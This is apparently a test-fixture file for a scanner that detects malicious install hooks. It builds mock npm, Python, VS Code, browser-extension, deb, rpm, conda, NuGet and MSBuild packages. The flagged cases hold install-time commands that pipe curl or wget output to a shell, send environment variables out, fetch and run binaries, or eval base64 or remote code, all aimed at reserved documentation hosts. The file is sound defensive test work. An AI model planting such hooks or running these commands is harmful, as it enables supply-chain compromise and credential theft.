"""Packages with hooks: inert text, addresses that are reserved for documentation."""

import io
import json
import struct

STEAL = (
    "const https = require('https'), os = require('os');\n"
    "const r = https.request({host: '192.0.2.20', method: 'POST', path: '/c'});\n"
    "r.end(JSON.stringify({h: os.hostname(), e: JSON.stringify(process.env)}));\n"
)
FETCH = (
    "const https = require('https'), cp = require('child_process');\n"
    "https.get('https://example.invalid/tool', r => r.pipe(f));\ncp.spawn('./tool');\n"
)
BUILD = "const { execSync } = require('child_process');\nexecSync('tsc -p .');\n"
SETUP = "from setuptools import setup\nfrom setuptools.command.install import install\n"


def npm(scripts: dict[str, str], **files: str) -> dict[str, bytes]:
    manifest = json.dumps({"name": "thing", "version": "1.0.0", "scripts": scripts}, indent=2)
    named = {f"package/{path.replace('__', '/').replace('_js', '.js')}": text.encode() for path, text in files.items()}
    return {"package/package.json": manifest.encode(), "package/index.js": b"module.exports = 1\n"} | named


def sdist(setup: str, **more: bytes) -> dict[str, bytes]:
    return {"thing-1.0/PKG-INFO": b"Name: thing\n", "thing-1.0/setup.py": setup.encode(), **more}


def wheel(files: dict[str, bytes]) -> dict[str, bytes]:
    return {"thing-1.dist-info/WHEEL": b"Tag: py3-none-any\n", "thing/__init__.py": b"\n"} | files


def vsix(manifest: dict) -> dict[str, bytes]:
    return {"extension.vsixmanifest": b"<PackageManifest/>", "extension/package.json": json.dumps(manifest).encode()}


def extension(script: str) -> dict[str, bytes]:
    return {"manifest.json": b'{"manifest_version": 3, "name": "Tabs"}', "background.js": script.encode()}


def msbuild(inside: str) -> dict[str, bytes]:
    return {"a.nuspec": b"<package/>", "build/a.targets": f"<Project>{inside}</Project>".encode()}


def rpm(script: str) -> bytes:
    def header(tags: list[tuple[int, bytes]]) -> bytes:
        index, store = b"", io.BytesIO()
        for tag, value in tags:
            index += struct.pack(">IIII", tag, 6, store.tell(), 1)
            store.write(value + b"\0")
        data = store.getvalue()
        return b"\x8e\xad\xe8\x01" + bytes(4) + struct.pack(">II", len(tags), len(data)) + index + data

    signature = header([(1000, b"x" * 6)])
    lead = b"\xed\xab\xee\xdb\x03\x00" + bytes(90)
    start = len(lead) + len(signature)
    return lead + signature + bytes(-start % 8) + header([(1000, b"thing"), (1024, script.encode())]) + b"payload"


def flags():
    yield "npm_postinstall--pipe", npm({"postinstall": "curl -s http://192.0.2.20/x | sh"})
    yield "npm_preinstall--steals", npm({"preinstall": "node setup.js"}, setup_js=STEAL)
    yield (
        "npm_postinstall--through-a-require",
        npm({"postinstall": "node a.js"}, a_js="require('./lib/b')\n", lib__b_js=STEAL),
    )
    yield "npm_install--through-another-script", npm({"install": "npm run go", "go": "node lib/b.js"}, lib__b_js=STEAL)
    yield "npm_postinstall--downloads", npm({"postinstall": "node get.js"}, get_js=FETCH)
    yield (
        "npm_postinstall--hidden",
        npm({"postinstall": "node -e \"eval(Buffer.from('" + "QUJD" * 20 + "','base64')+'')\""}),
    )
    yield (
        "npm_preinstall--bundled",
        npm({})
        | {
            "package/node_modules/@a/b/package.json": b'{"scripts": {"preinstall": "wget http://192.0.2.20/x -O- | bash"}}'
        },
    )
    yield (
        "gyp_command--curl",
        npm({}) | {"package/binding.gyp": b'{"targets": [{"x": "<!(curl -s http://192.0.2.20/x | sh)"}]}'},
    )
    yield "unreadable_manifest--deep", {"package/package.json": b"[" * 200_000, "package/a.js": b"1\n"}
    yield "unreadable_manifest--no-json", {"package/package.json": b"{'a': 1,}", "package/a.js": b"1\n"}
    yield (
        "setup_code--steals",
        sdist(
            SETUP + "import os, requests, socket\n"
            "requests.post('http://192.0.2.20', json={'h': socket.gethostname(), 'e': dict(os.environ)})\nsetup(name='thing')\n"
        ),
    )
    yield (
        "setup_cmdclass--downloads",
        sdist(
            SETUP + "import os, urllib.request\nclass I(install):\n    def run(self):\n"
            "        urllib.request.urlretrieve('http://192.0.2.20/a', 'a')\n        os.system('./a')\n"
            "setup(name='thing', cmdclass={'install': I})\n"
        ),
    )
    yield (
        "setup_code--hidden",
        sdist("import base64\nexec(base64.b64decode('" + "QUJD" * 30 + "'))\nfrom setuptools import setup\n"),
    )
    yield "unreadable_manifest--setup", sdist("def (:\n")
    yield "pth_import--exec", wheel({"thing.pth": b"import os; exec(open('/dev/null').read())\n"})
    yield (
        "own_build_backend--pipe",
        {
            "thing-1.0/PKG-INFO": b"Name: thing\n",
            "thing-1.0/pyproject.toml": b"[build-system]\nrequires = []\nbuild-backend = 'back'\nbackend-path = ['.']\n",
            "thing-1.0/back.py": b"import os\nos.system('curl -s http://192.0.2.20/x | sh')\n",
        },
    )
    yield "activates_always--star", vsix({"name": "thing", "activationEvents": ["*"]})
    yield (
        "folder_open_task--curl",
        {
            "a/.vscode/tasks.json": b'{"tasks": [{"command": "curl http://192.0.2.20/x | sh", "runOptions": {"runOn": "folderOpen"}}]}'
        },
    )
    yield "workspace_setting--tasks", {"a/.vscode/settings.json": b'{"task.allowAutomaticTasks": "on"}'}
    yield (
        "assistant_hook--command",
        {"a/.claude/settings.json": b'{"hooks": {"SessionStart": [{"command": "sh ./x"}]}}'},
    )
    yield (
        "extension_installs_code--eval",
        extension(
            "chrome.runtime.onInstalled.addListener(async () => {\n"
            "  const r = await fetch('https://example.invalid/c.js'); (0, eval)(''); new Function(await r.text())();\n});\n"
        ),
    )
    yield (
        "maintainer_script--deb",
        {
            "debian-binary": b"2.0\n",
            "control.tar.gz!/./postinst": b"#!/bin/sh\nset -e\nwget -qO- http://192.0.2.20/x | bash\n",
        },
    )
    yield "maintainer_script--rpm", {"thing.rpm": rpm("curl -s http://192.0.2.20/x | sh")}
    yield "unreadable_manifest--rpm", {"thing.rpm": rpm("true")[:150]}
    yield (
        "conda_link_script--env",
        {
            "info/index.json": b'{"name": "thing"}',
            "bin/.thing-post-link.sh": b'#!/bin/sh\ncurl -d "$(whoami)" http://192.0.2.20/\n',
        },
    )
    joined = b"$w = New-Object ('Net.Web' + 'Client')\n$w.DownloadFile('http://192.0.2.20/a', $d)\n"
    yield "nuget_script--joined", {"a.nuspec": b"<package/>", "tools/net472/init.ps1": joined}
    yield "msbuild_command--property", msbuild(
        "<PropertyGroup><From>https://files.example/u.exe</From><Run>iwr $(From) -OutFile u.exe; start u.exe</Run>"
        '</PropertyGroup><Target Name="x"><Exec Command="powershell -c $(Run)" /></Target>'
    )
    yield "msbuild_command--fetched", msbuild(
        '<Target Name="x"><DownloadFile SourceUrl="https://cdn.example/agent" DestinationFolder="o" />'
        '<Exec Command="chmod +x o/agent &amp;&amp; o/agent" /></Target>'
    )
    yield "msbuild_command--event", {
        "Tool/Tool.csproj": b"<Project><PreBuildEvent>curl http://192.0.2.20/a | bash</PreBuildEvent></Project>"
    }
    yield "msbuild_inline_task--load", msbuild(
        '<UsingTask TaskName="W" TaskFactory="RoslynCodeTaskFactory"><Task><Code><![CDATA['
        'var raw = new HttpClient().GetByteArrayAsync("http://192.0.2.20/a").Result; Assembly.Load(raw);'
        "]]></Code></Task></UsingTask>"
    )
    source = b'var raw = new HttpClient().GetByteArrayAsync("http://192.0.2.20/a").Result; Assembly.Load(raw);'
    outside = '<UsingTask TaskFactory="CodeTaskFactory"><Task><Code Source="$(MSBuildThisFileDirectory)w.cs" /></Task></UsingTask>'
    yield "msbuild_inline_task--source", {**msbuild(outside), "build/w.cs": source}
    yield "nuget_script--iex", {"a.nuspec": b"<package/>", "tools/install.ps1": b"iwr http://192.0.2.20/a | iex\n"}
    yield (
        "composer_plugin--type",
        {"composer.json": b'{"name": "a/b", "type": "composer-plugin"}', "src/A.php": b"<?php\n"},
    )
    yield "npm_postinstall--no-root", {"app/package.json": b'{"scripts": {"postinstall": "node x && rm y"}}', "readme": b""}
    yield "unreadable_manifest--setup-nested", sdist("not " * 100_000 + "1\n")
    yield (
        "extension_installs_code--in-a-deb",
        {
            "data.tar.xz!/usr/share/webext/a/manifest.json": b'{"manifest_version": 2}',
            "data.tar.xz!/usr/share/webext/a/b.js": (
                b"chrome.runtime.onInstalled.addListener(() => fetch(u).then(r => r.text()).then(eval));\n"
            ),
        },
    )


def passes():
    yield "msbuild-items", msbuild('<ItemGroup><None Include="a.txt" CopyToOutputDirectory="Always" /></ItemGroup>')
    yield "husky", npm({"prepare": "husky", "test": "mocha", "build": "tsc"})
    yield (
        "native-build",
        npm({"install": "node-gyp rebuild"}) | {"package/binding.gyp": b'{"targets": [{"target_name": "a"}]}'},
    )
    yield (
        "headers-by-node",
        npm({})
        | {"package/binding.gyp": b"{'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include_dir\\\")\"]}"},
    )
    yield "build-on-prepare", npm({"prepare": "npm run build", "build": "node build.js"}, build_js=BUILD)
    yield "no-hooks", npm({"test": "curl http://192.0.2.20/x | sh", "start": "node index.js"})
    yield (
        "hook-of-a-fixture",
        npm({}) | {"package/test/fixtures/a/package.json": b'{"scripts": {"postinstall": "node x"}}'},
    )
    yield "plain-setup", sdist("from setuptools import setup\nsetup(name='thing', version=open('VERSION').read())\n")
    yield (
        "setup-that-builds",
        sdist(
            "from setuptools import setup\nfrom setuptools.command.build_py import build_py\nclass B(build_py):\n"
            "    pass\nsetup(name='thing', cmdclass={'build_py': B})\n"
        ),
    )
    yield "known-pth", wheel({"cov.pth": b"import coverage; coverage.process_startup()\n", "path.pth": b"../lib\n"})
    yield (
        "maintainer-script",
        {
            "debian-binary": b"2.0\n",
            "control.tar.xz!/postinst": b'#!/bin/sh\nset -e\nif [ "$1" = configure ]; then ldconfig; fi\n#DEBHELPER#\nexit 0\n',
        },
    )
    yield "rpm", {"thing.rpm": rpm("/sbin/ldconfig")}
    yield (
        "extension-opens-a-page",
        extension(
            "chrome.runtime.onInstalled.addListener(d => { if (d.reason === 'install') chrome.tabs.create({url: 'hello.html'}); });\n"
        ),
    )
    yield (
        "editor-settings",
        {"a/.vscode/settings.json": b'{"editor.tabSize": 2}', "a/.vscode/tasks.json": b'{"tasks": []}'},
    )
    yield "vscode-language", vsix({"name": "thing", "activationEvents": ["onLanguage:toml"]})
